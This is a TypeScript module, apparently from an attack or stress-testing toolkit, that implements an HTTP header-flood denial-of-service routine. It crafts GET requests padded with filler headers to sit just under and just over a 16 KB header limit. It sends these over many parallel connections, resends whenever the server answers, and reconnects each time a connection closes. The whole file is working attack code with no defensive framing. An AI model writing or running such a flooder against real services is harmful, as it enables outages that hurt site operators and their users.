import { type Attack, open } from './attack.ts'

/** What the service reads of headers at most; many small ones take it longest. */
const limitBytes = 16 * 1024

/** Requests with as many headers as are allowed and with some more, each connection as fast as it is answered. */
export function headerFlood({ url, connections, count }: Attack): void {
  const below = requestOf(url, limitBytes - 512)
  const above = requestOf(url, limitBytes + 512)
  for (let number = 0; number < connections; number++) {
    floodOn(url, number % 2 === 0 ? below : above, count)
  }
}

function requestOf({ pathname, host }: URL, bytes: number): string {
  let request = `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\nIf-None-Match: *\r\n`
  for (let number = 1000; request.length < bytes - 10; number++) request += `${number}: x\r\n`
  return `${request}\r\n`
}

function floodOn(url: URL, request: string, count: () => void): void {
  const socket = open(url)
  const send = (): void => {
    socket.write(request)
    count()
  }
  socket.on('connect', send)
  // An answer is a 304 or a 431, and in one piece.
  socket.on('data', send)
  socket.on('close', () => floodOn(url, request, count))
}
